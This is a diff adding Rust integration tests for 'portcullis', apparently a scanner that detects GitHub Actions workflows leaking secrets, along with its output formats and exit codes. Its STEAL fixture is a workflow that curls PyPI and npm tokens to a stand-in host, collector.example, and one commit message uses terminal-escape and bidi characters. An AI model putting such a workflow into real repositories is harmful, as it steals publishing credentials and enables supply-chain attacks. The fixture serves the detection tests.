@@ -1,0 +1,189 @@
+//! `portcullis scan` as people run it: the built program, real repositories, exit codes.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    clippy::string_slice,
+    clippy::panic,
+    reason = "a test fails by panicking"
+)]
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";
+const PUBLISH: &str = "on: release\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with:\n          password: ${{ secrets.PYPI_API_TOKEN }}\n";
+
+fn portcullis(arguments: &[&str], folder: &Path) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_portcullis"))
+        .args(arguments)
+        .current_dir(folder)
+        .env_remove("RUST_LOG")
+        .output()
+        .unwrap()
+}
+
+fn git(folder: &Path, arguments: &[&str]) -> String {
+    let output = Command::new("git")
+        .args(["-c", "user.name=Test", "-c", "user.email=test@example.test", "-c", "commit.gpgsign=false"])
+        .args(arguments)
+        .current_dir(folder)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    String::from_utf8_lossy(&output.stdout).trim().to_owned()
+}
+
+/// A repository with a publishing workflow, and a theft that `main` took out again and `dev` still has.
+fn victim() -> tempfile::TempDir {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path();
+    git(path, &["init", "-q", "-b", "main"]);
+    git(path, &["remote", "add", "origin", "https://user:secret@GitHub.example/Owner/Widgets.git"]);
+    std::fs::create_dir_all(path.join(".github/workflows")).unwrap();
+    std::fs::write(path.join("pyproject.toml"), "[project]\nname = \"widgets\"\n").unwrap();
+    std::fs::write(path.join(".github/workflows/publish.yml"), PUBLISH).unwrap();
+    git(path, &["add", "-A"]);
+    git(path, &["commit", "-q", "-m", "Publish"]);
+    std::fs::write(path.join(".github/workflows/security.yml"), STEAL).unwrap();
+    git(path, &["add", "-A"]);
+    git(path, &["commit", "-q", "-m", "Add security \u{1b}[31mworkflow\u{202e}"]);
+    git(path, &["branch", "dev"]);
+    git(path, &["rm", "-q", ".github/workflows/security.yml"]);
+    git(path, &["commit", "-q", "-m", "Take it out"]);
+    folder
+}
+
+fn json(output: &Output) -> serde_json::Value {
+    serde_json::from_slice(&output.stdout)
+        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
+}
+
+#[test]
+fn people_read_what_left_where_to_since_when_and_what_it_opens() {
+    let victim = victim();
+    let output = portcullis(&["scan"], victim.path());
+    assert_eq!(output.status.code(), Some(1));
+    let text = String::from_utf8(output.stdout).unwrap();
+    for expected in [
+        "malicious[secret-to-host]: `NPM_TOKEN`, `PYPI_API_TOKEN` sent to collector.example",
+        ".github/workflows/security.yml",
+        "secrets.PYPI_API_TOKEN",
+        "exposed:  since ",
+        "refs/heads/dev: still stands",
+        "refs/heads/main: removed ",
+        "`PYPI_API_TOKEN`: publishes `widgets` on pypi (claimed; .github/workflows/publish.yml:8",
+        "do:       invalidate every secret listed",
+        r"Add security \u{1b}[31mworkflow\u{202e}",
+    ] {
+        assert!(text.contains(expected), "{expected:?} is missing in:\n{text}");
+    }
+    assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'), "escape sequences reach a pipe");
+}
+
+#[test]
+fn scripts_read_the_document() {
+    let victim = victim();
+    let output = portcullis(&["scan", "--format", "json"], victim.path());
+    assert_eq!(output.status.code(), Some(1));
+    let document = json(&output);
+    assert_eq!(document["schema"], "portcullis.scan/1");
+    assert_eq!(document["complete"], true);
+    let finding = &document["findings"][0];
+    for key in [
+        "id",
+        "rule",
+        "verdict",
+        "standing",
+        "signals",
+        "repository",
+        "path",
+        "blob",
+        "skeleton",
+        "span",
+        "secrets",
+        "all_secrets",
+        "destinations",
+        "flow",
+        "exposures",
+    ] {
+        assert!(!finding[key].is_null(), "{key}");
+    }
+    assert_eq!(finding["repository"]["identity"], "github.example/owner/widgets");
+    assert_eq!(finding["secrets"][1]["used_for"][0]["package"], "widgets");
+    assert_eq!(finding["exposures"][0]["refs"][0]["removed"], serde_json::Value::Null);
+    let text = String::from_utf8(output.stdout).unwrap();
+    assert!(!text.contains("user:secret") && !text.contains('\u{202e}'));
+    let lines = portcullis(&["scan", "--format", "jsonl"], victim.path());
+    let kinds: Vec<String> = String::from_utf8(lines.stdout)
+        .unwrap()
+        .lines()
+        .map(|line| {
+            serde_json::from_str::<serde_json::Value>(line).unwrap()["type"].as_str().unwrap().to_owned()
+        })
+        .collect();
+    assert!(kinds.contains(&"finding".to_owned()));
+    assert_eq!(kinds.last().map(String::as_str), Some("stats"));
+}
+
+#[test]
+fn code_scanning_reads_sarif() {
+    let victim = victim();
+    let document = json(&portcullis(&["scan", "--format", "sarif"], victim.path()));
+    assert_eq!(document["version"], "2.1.0");
+    let result = &document["runs"][0]["results"][0];
+    assert_eq!(result["ruleId"], "secret-to-host");
+    assert_eq!(result["locations"][0]["physicalLocation"]["region"]["startLine"], 8);
+    assert!(result["codeFlows"][0]["threadFlows"][0]["locations"].as_array().unwrap().len() >= 3);
+    assert_eq!(result["partialFingerprints"]["portcullis/1"].as_str().unwrap().len(), 16);
+}
+
+#[test]
+fn exit_codes() {
+    let victim = victim();
+    let path = victim.path();
+    assert_eq!(portcullis(&["scan", "--no-history"], path).status.code(), Some(0));
+    assert_eq!(portcullis(&["scan", "no-such-folder"], path).status.code(), Some(2));
+    assert_eq!(portcullis(&["scan", "--no-such-option"], path).status.code(), Some(2));
+    let empty = tempfile::tempdir().unwrap();
+    assert_eq!(portcullis(&["scan"], empty.path()).status.code(), Some(2));
+    // One that fails among others is a problem.
+    let both = portcullis(&["scan", "--format", "json", "no-such-folder", "."], path);
+    assert_eq!(both.status.code(), Some(1));
+    assert_eq!(json(&both)["problems"][0]["kind"], "unreadable");
+    assert_eq!(portcullis(&["scan", "--strict", "no-such-folder", "."], path).status.code(), Some(2));
+    // An accepted finding is listed and doesn't count.
+    let document = json(&portcullis(&["scan", "--format", "json"], path));
+    let id = document["findings"][0]["id"].as_str().unwrap();
+    let accepted = portcullis(&["scan", "--format", "json", "--accept", &format!("{id}=a drill")], path);
+    assert_eq!(accepted.status.code(), Some(0));
+    assert_eq!(json(&accepted)["findings"][0]["accepted"], "a drill");
+}
+
+#[test]
+fn a_closed_pipe_is_no_failure() {
+    let victim = victim();
+    let mut child = Command::new(env!("CARGO_BIN_EXE_portcullis"))
+        .args(["scan", "--format", "json"])
+        .current_dir(victim.path())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    let output = child.wait_with_output().unwrap();
+    assert!(output.stderr.is_empty(), "{}", String::from_utf8_lossy(&output.stderr));
+}
+
+#[test]
+fn rules_and_signals_are_explained() {
+    let folder = tempfile::tempdir().unwrap();
+    for id in ["secret-to-host", "unrelated-secrets"] {
+        let output = portcullis(&["explain", id], folder.path());
+        assert_eq!(output.status.code(), Some(0), "{id}");
+        assert!(output.stdout.len() > 100);
+    }
+    assert_eq!(portcullis(&["explain", "no-such-rule"], folder.path()).status.code(), Some(2));
+}
